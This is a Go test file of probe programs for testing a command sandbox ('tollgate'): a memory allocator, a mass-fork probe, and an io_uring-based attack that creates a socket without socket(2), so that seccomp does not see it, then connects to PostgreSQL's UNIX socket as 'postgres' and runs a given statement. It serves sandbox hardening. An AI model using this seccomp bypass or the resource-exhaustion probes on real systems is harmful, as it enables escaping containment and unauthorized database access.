package bash_test

import (
	"encoding/binary"
	"fmt"
	"os"
	"strconv"
	"sync/atomic"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// The attacks' probes: modes of the test binary, copied into a command's
// working directory and run by the command (see TestMain).
func init() {
	probes["tollgate-io-uring-pg"] = ioUringPG
	probes["tollgate-sleep"] = func([]string) { time.Sleep(time.Minute) }
	probes["tollgate-fork"] = forkMany
	probes["tollgate-alloc"] = alloc
}

// alloc allocates args[0] bytes, writes every page, and prints how many.
func alloc(args []string) {
	n, _ := strconv.Atoi(args[0])
	b := make([]byte, n)
	for i := 0; i < n; i += 4096 {
		b[i] = 1
	}
	fmt.Println("allocated", len(b))
}

// ioUringPG is attack A of a review: make an AF_UNIX socket through
// io_uring (IORING_OP_SOCKET; no socket(2) call for seccomp to see),
// connect it to PostgreSQL's UNIX socket (args[0]), authenticate as
// "postgres" (trust) and run args[1]. It prints each step and exits 0 when
// the statement ran.
func ioUringPG(args []string) {
	fd, err := ioUringSocket()
	if err != nil {
		fmt.Println(err)
		os.Exit(3)
	}
	fmt.Println("io_uring made socket", fd)
	if err := unix.Connect(fd, &unix.SockaddrUnix{Name: args[0]}); err != nil {
		fmt.Println("connect:", err)
		os.Exit(3)
	}
	f := os.NewFile(uintptr(fd), "pg")
	var startup []byte
	startup = binary.BigEndian.AppendUint32(startup, 0)
	startup = binary.BigEndian.AppendUint32(startup, 3<<16)
	startup = append(startup, "user\x00postgres\x00database\x00postgres\x00\x00"...)
	binary.BigEndian.PutUint32(startup, uint32(len(startup)))
	if _, err := f.Write(startup); err != nil {
		fmt.Println("startup:", err)
		os.Exit(3)
	}
	if err := pgUntilReady(f); err != nil {
		fmt.Println("authenticating:", err)
		os.Exit(3)
	}
	fmt.Println("authenticated as postgres")
	q := []byte{'Q', 0, 0, 0, 0}
	q = append(append(q, args[1]...), 0)
	binary.BigEndian.PutUint32(q[1:], uint32(len(q)-1))
	if _, err := f.Write(q); err != nil {
		fmt.Println("query:", err)
		os.Exit(3)
	}
	if err := pgUntilReady(f); err != nil {
		fmt.Println("query:", err)
		os.Exit(3)
	}
	fmt.Println("ran:", args[1])
}

// pgUntilReady reads messages until ReadyForQuery; an ErrorResponse, or an
// authentication request other than AuthenticationOk, is an error.
func pgUntilReady(f *os.File) error {
	for {
		var hdr [5]byte
		if _, err := readFull(f, hdr[:]); err != nil {
			return err
		}
		body := make([]byte, binary.BigEndian.Uint32(hdr[1:])-4)
		if _, err := readFull(f, body); err != nil {
			return err
		}
		switch hdr[0] {
		case 'E':
			return fmt.Errorf("server error: %q", body)
		case 'R':
			if binary.BigEndian.Uint32(body) != 0 {
				return fmt.Errorf("the server asks for a password (%d)", binary.BigEndian.Uint32(body))
			}
		case 'Z':
			return nil
		}
	}
}

func readFull(f *os.File, b []byte) (int, error) {
	n := 0
	for n < len(b) {
		m, err := f.Read(b[n:])
		if err != nil {
			return n, err
		}
		n += m
	}
	return n, nil
}

// ioUringParams is struct io_uring_params.
type ioUringParams struct {
	sqEntries, cqEntries, flags, sqThreadCPU, sqThreadIdle, features, wqFd uint32
	resv                                                                   [3]uint32
	sqOff                                                                  [8]uint32 // head, tail, ring_mask, ring_entries, flags, dropped, array, resv1
	sqUserAddr                                                             uint64
	cqOff                                                                  [8]uint32 // head, tail, ring_mask, ring_entries, overflow, cqes, flags, resv1
	cqUserAddr                                                             uint64
}

// ioUringSQE is struct io_uring_sqe (64 bytes), the fields IORING_OP_SOCKET
// uses.
type ioUringSQE struct {
	opcode, flags uint8
	ioprio        uint16
	fd            int32 // domain
	off           uint64
	addr          uint64
	len           uint32 // protocol
	opFlags       uint32
	userData      uint64
	bufIndex      uint16
	personality   uint16
	fileIndex     uint32
	addr3         uint64
	pad           uint64
}

const ioringOpSocket = 45

// ioUringSocket makes socket(AF_UNIX, SOCK_STREAM, 0) through a ring.
func ioUringSocket() (int, error) {
	var p ioUringParams
	ring, _, e := syscall.Syscall(unix.SYS_IO_URING_SETUP, 4, uintptr(unsafe.Pointer(&p)), 0)
	if e != 0 {
		return -1, fmt.Errorf("io_uring_setup: %w", e)
	}
	sqSize := int(p.sqOff[6] + p.sqEntries*4)
	cqSize := int(p.cqOff[5] + p.cqEntries*16)
	size := max(sqSize, cqSize) // IORING_FEAT_SINGLE_MMAP (Linux 5.4)
	rings, err := unix.Mmap(int(ring), 0, size, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_POPULATE)
	if err != nil {
		return -1, fmt.Errorf("mmap rings: %w", err)
	}
	sqes, err := unix.Mmap(int(ring), 0x10000000, int(p.sqEntries)*64, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_POPULATE)
	if err != nil {
		return -1, fmt.Errorf("mmap sqes: %w", err)
	}
	at := func(off uint32) *uint32 { return (*uint32)(unsafe.Pointer(&rings[off])) }
	sqe := (*ioUringSQE)(unsafe.Pointer(&sqes[0]))
	*sqe = ioUringSQE{opcode: ioringOpSocket, fd: unix.AF_UNIX, off: unix.SOCK_STREAM, userData: 1}
	tail := atomic.LoadUint32(at(p.sqOff[1]))
	mask := *at(p.sqOff[2])
	*(*uint32)(unsafe.Pointer(&rings[p.sqOff[6]+4*(tail&mask)])) = 0
	atomic.StoreUint32(at(p.sqOff[1]), tail+1)
	const enterGetEvents = 1
	if _, _, e := syscall.Syscall6(unix.SYS_IO_URING_ENTER, ring, 1, 1, enterGetEvents, 0, 0); e != 0 {
		return -1, fmt.Errorf("io_uring_enter: %w", e)
	}
	head := atomic.LoadUint32(at(p.cqOff[0]))
	if head == atomic.LoadUint32(at(p.cqOff[1])) {
		return -1, fmt.Errorf("io_uring: no completion")
	}
	cqe := p.cqOff[5] + 16*(head&*at(p.cqOff[2]))
	res := int32(binary.LittleEndian.Uint32(rings[cqe+8:]))
	atomic.StoreUint32(at(p.cqOff[0]), head+1)
	if res < 0 {
		return -1, fmt.Errorf("IORING_OP_SOCKET: %w", syscall.Errno(-res))
	}
	return int(res), nil
}

// forkMany starts args[0] processes that sleep, without retrying a fork
// that fails, and prints how many it started.
func forkMany(args []string) {
	n, _ := strconv.Atoi(args[0])
	started := 0
	var last error
	for range n {
		if _, err := syscall.ForkExec("/bin/sleep", []string{"sleep", "60"}, &syscall.ProcAttr{}); err != nil {
			last = err
			continue
		}
		started++
	}
	fmt.Printf("started %d of %d (%v)\n", started, n, last)
}
